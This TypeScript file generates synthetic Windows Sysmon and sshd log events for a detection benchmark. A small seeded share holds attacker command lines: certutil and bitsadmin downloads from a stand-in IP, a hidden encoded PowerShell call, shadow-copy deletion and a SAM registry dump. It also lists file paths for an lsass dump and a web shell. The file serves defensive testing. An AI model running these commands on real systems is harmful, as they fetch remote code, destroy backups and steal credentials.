/**
 * Seeded events for the lanes of `bench/detect`. Nearly every value is new: command lines carry paths, numbers, identifiers
 * and made-up words; images come from some thousands of programs in hundreds of folders; users from hundreds. A small share
 * is what attackers type, so that 0.1 to 5 % of the events hit a rule. Shapes and lengths follow Sysmon's and sshd's.
 */
import { type Event, newFields, type RawRecord } from '#contract';
import { normalize } from '#normalize';
import { chance, type Chance } from './random.ts';

const SYSTEM = [
  'taskhostw',
  'dllhost',
  'RuntimeBroker',
  'backgroundTaskHost',
  'SearchProtocolHost',
  'sihost',
  'ctfmon',
  'wermgr',
  'audiodg',
  'smartscreen',
  'cmd',
  'powershell',
  'msiexec',
  'where',
  'timeout',
  'mmc',
  'notepad',
  'taskmgr',
  'MoUsoCoreWorker',
  'UsoClient',
  'CompatTelRunner',
];
const PROGRAMS = [
  'chrome',
  'msedge',
  'firefox',
  'Code',
  'git',
  'node',
  'python',
  'java',
  'Discord',
  'steam',
  'EXCEL',
  'WINWORD',
  'OUTLOOK',
  'Acrobat',
  '7zG',
  'notepad++',
  'docker',
  'setup',
  'updater',
];
const SERVICES = ['netsvcs', 'LocalService', 'NetworkService', 'UnistackSvcGroup', 'DcomLaunch', 'wsappx'];
const COMPANIES = [
  'Microsoft Corporation',
  'Google LLC',
  'Mozilla Corporation',
  'Adobe Inc.',
  'Valve Corporation',
  '-',
  'Oracle Corporation',
  'Python Software Foundation',
];

/** What an attacker or a careless administrator types: some rules fire on each. */
const BAD: readonly (readonly [image: string, line: string])[] = [
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe'],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  ],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet'],
  ['C:\\Windows\\System32\\reg.exe', 'reg save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv'],
  [
    'C:\\Windows\\System32\\bitsadmin.exe',
    'bitsadmin /transfer x /download /priority high http://203.0.113.9/x.exe C:\\Users\\Public\\x.exe',
  ],
];

const guid = (c: Chance): string => `{${c.hex(8)}-${c.hex(4)}-${c.hex(4)}-${c.hex(4)}-${c.hex(12)}}`;
const user = (c: Chance): string => (c.next() < 0.4 ? 'NT AUTHORITY\\SYSTEM' : `HOME\\${c.word()}${c.below(40)}`);
const home = (c: Chance): string => `C:\\Users\\${c.word()}`;

function image(c: Chance): string {
  const roll = c.next();
  if (roll < 0.3) return `C:\\Windows\\System32\\${c.pick(SYSTEM)}.exe`;
  if (roll < 0.35) return `C:\\Windows\\SysWOW64\\${c.pick(SYSTEM)}.exe`;
  if (roll < 0.75)
    return `C:\\Program Files${c.next() < 0.4 ? ' (x86)' : ''}\\${c.word()}\\${c.next() < 0.5 ? c.pick(PROGRAMS) : c.word()}.exe`;
  return `${home(c)}\\AppData\\Local\\${c.word()}\\app-${c.below(9)}.${c.below(99)}.${c.below(999)}\\${c.word()}.exe`;
}

interface Started {
  readonly path: string;
  readonly line: string;
  readonly parent: string;
}

function started(c: Chance): Started {
  const roll = c.next();
  if (roll < 0.008) {
    const [path, line] = c.pick(BAD);
    return { path, line, parent: 'C:\\Windows\\explorer.exe' };
  }
  if (roll < 0.15) {
    const path = 'C:\\Windows\\System32\\svchost.exe';
    const line = `C:\\Windows\\system32\\svchost.exe -k ${c.pick(SERVICES)} -p -s ${c.word()}`;
    return { path, line, parent: 'C:\\Windows\\System32\\services.exe' };
  }
  if (roll < 0.25) {
    const path = 'C:\\Windows\\System32\\conhost.exe';
    return { path, line: `\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff`, parent: image(c) };
  }
  const path = image(c);
  const quoted = path.includes(' ') || c.next() < 0.3 ? `"${path}"` : path;
  const line = [quoted, ...Array.from({ length: c.below(7) }, () => argument(c))].join(' ');
  return { path, line, parent: c.next() < 0.4 ? 'C:\\Windows\\explorer.exe' : image(c) };
}

function argument(c: Chance): string {
  switch (c.below(10)) {
    case 0:
      return `--${c.word()}=${c.hex(12)}`;
    case 1:
      return `-${c.pick(['k', 'p', 's', 'f', 'n', 'o'])} ${c.word()}`;
    case 2:
      return `"${home(c)}\\Documents\\${c.word()}\\${c.word()}.${c.pick(['txt', 'docx', 'json', 'log'])}"`;
    case 3:
      return `/${c.word()}:${c.below(100_000)}`;
    case 4:
      return guid(c);
    case 5:
      return `https://${c.word()}.example.net/${c.word()}/${c.below(10_000)}?q=${c.word()}`;
    case 6:
      return `--type=${c.pick(['renderer', 'utility', 'gpu-process'])} --field-trial-handle=${c.below(9000)},${c.below(1e9)},${c.below(1e9)}`;
    case 7:
      return `-Embedding`;
    case 8:
      return String(c.below(100_000));
    default:
      return c.word();
  }
}

/** As the Windows parser leaves it: strings in one piece, not in the halves they were made of. */
const event = (fields: Record<string, unknown>): Event =>
  Object.assign(newFields(), { '@timestamp': 0, 'event.ingested': 0 }, JSON.parse(JSON.stringify(fields)) as object);

function sysmon(c: Chance, code: number, category: string): Record<string, unknown> {
  return {
    'host.name': `${c.word()}.home.example`,
    'agent.id': 'local',
    'event.code': String(code),
    'event.dataset': 'windows.sysmon',
    'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
    'winlog.provider_name': 'Microsoft-Windows-Sysmon',
    'winlog.event_data.RuleName': '-',
    'winlog.event_data.UtcTime': `2026-03-0${1 + c.below(9)} 1${c.below(10)}:${10 + c.below(50)}:${10 + c.below(50)}.${c.below(999)}`,
    'winlog.event_data.ProcessGuid': guid(c),
    'labels.product': 'windows',
    'labels.category': category,
    'labels.service': 'sysmon',
  };
}

export function processCreation(seed: number): () => Event {
  const c = chance(seed);
  return () => {
    const { path, line, parent } = started(c);
    const file = path.slice(path.lastIndexOf('\\') + 1);
    const account = user(c);
    return event({
      ...sysmon(c, 1, 'process_creation'),
      'process.pid': c.below(30_000),
      'process.executable': path,
      'process.command_line': line,
      'process.working_directory': c.next() < 0.5 ? 'C:\\Windows\\system32\\' : `${home(c)}\\`,
      'process.parent.executable': parent,
      'process.parent.command_line': `"${parent}" ${argument(c)} ${argument(c)}`,
      'process.parent.pid': c.below(30_000),
      'process.pe.original_file_name': c.next() < 0.8 ? file : '-',
      'winlog.event_data.FileVersion': `${c.below(99)}.${c.below(99)}.${c.below(9999)}`,
      'winlog.event_data.Description': `${c.word()} ${c.word()}`,
      'winlog.event_data.Product': c.next() < 0.5 ? 'Microsoft® Windows® Operating System' : c.word(),
      'winlog.event_data.Company': c.pick(COMPANIES),
      'winlog.event_data.User': account,
      'winlog.event_data.ParentUser': account,
      'winlog.event_data.LogonGuid': guid(c),
      'winlog.event_data.LogonId': `0x${c.hex(5)}`,
      'winlog.event_data.IntegrityLevel': c.pick(['System', 'High', 'Medium', 'Low']),
      'winlog.event_data.Hashes': `MD5=${c.hex(32)},SHA256=${c.hex(64)},IMPHASH=${c.hex(32)}`.toUpperCase(),
      'winlog.event_data.ParentProcessGuid': guid(c),
    });
  };
}

const ENDINGS = ['txt', 'log', 'tmp', 'json', 'dll', 'etl', 'db-journal', 'js', 'png', 'exe', 'xml', 'pf'];

function written(c: Chance): string {
  const name = `${c.word()}${c.below(1000)}.${c.pick(ENDINGS)}`;
  switch (c.below(6)) {
    case 0:
      return `${home(c)}\\AppData\\Local\\Temp\\${c.hex(8)}\\${name}`;
    case 1:
      return `${home(c)}\\AppData\\Roaming\\${c.word()}\\Cache\\${c.hex(16)}`;
    case 2:
      return `C:\\Windows\\Prefetch\\${c.word().toUpperCase()}.EXE-${c.hex(8).toUpperCase()}.pf`;
    case 3:
      return `C:\\ProgramData\\${c.word()}\\${c.word()}\\${name}`;
    case 4:
      return `C:\\Program Files\\${c.word()}\\${name}`;
    default:
      return `${home(c)}\\Documents\\${c.word()}\\${name}`;
  }
}

const BAD_FILES = [
  'C:\\Users\\Public\\x.exe',
  'C:\\Windows\\Temp\\lsass.dmp',
  'C:\\Windows\\System32\\Tasks\\evil.ps1',
  'C:\\inetpub\\wwwroot\\shell.aspx',
];

export function fileEvent(seed: number): () => Event {
  const c = chance(seed);
  return () =>
    event({
      ...sysmon(c, 11, 'file_event'),
      'process.pid': c.below(30_000),
      'process.executable': image(c),
      'file.path': c.next() < 0.01 ? c.pick(BAD_FILES) : written(c),
      'winlog.event_data.CreationUtcTime': `2026-03-0${1 + c.below(9)} 11:${10 + c.below(50)}:00.${c.below(999)}`,
      'winlog.event_data.User': user(c),
    });
}

const address = (c: Chance): string => `198.51.100.${c.below(256)}`;

function authLine(c: Chance): string {
  const roll = c.next();
  const ssh = `sshd[${1000 + c.below(60_000)}]: `;
  if (roll < 0.001) return `${ssh}error: unexpected internal error`;
  if (roll < 0.4)
    return `${ssh}Failed password for ${c.next() < 0.5 ? 'invalid user ' : ''}${c.word()} from ${address(c)} port ${c.below(65_000)} ssh2`;
  if (roll < 0.5)
    return `${ssh}Accepted publickey for ${c.word()} from ${address(c)} port ${c.below(65_000)} ssh2: ED25519 SHA256:${c.hex(40)}`;
  if (roll < 0.65)
    return `${ssh}Connection closed by authenticating user ${c.word()} ${address(c)} port ${c.below(65_000)} [preauth]`;
  if (roll < 0.75)
    return `${ssh}pam_unix(sshd:session): session opened for user ${c.word()}(uid=${c.below(5000)}) by (uid=0)`;
  if (roll < 0.85)
    return `sudo[${c.below(60_000)}]:   ${c.word()} : TTY=pts/${c.below(9)} ; PWD=/home/${c.word()} ; USER=root ; COMMAND=/usr/bin/${c.word()} --${c.word()}=${c.hex(8)}`;
  return `CRON[${c.below(60_000)}]: (${c.word()}) CMD (/usr/local/bin/${c.word()} --since ${c.below(1e6)} >/dev/null 2>&1)`;
}

/** Lines of auth.log, through the product's own parsers. */
export function syslog(seed: number): () => Event {
  const c = chance(seed);
  const context = { timezone: 'UTC', historic: false, count: () => undefined };
  return () => {
    const text = `2026-03-01T10:${10 + c.below(50)}:${10 + c.below(50)}.000Z ${c.word()} ${authLine(c)}`;
    const record: RawRecord = {
      source: { id: 'file', agent: 'local', host: 'nas', type: 'syslog' },
      text: Buffer.from(text).toString(),
      received: Date.UTC(2026, 2, 1, 12),
    };
    const found = normalize(record, context);
    if (found === undefined) throw new Error(`not understood: ${text}`);
    return found;
  };
}
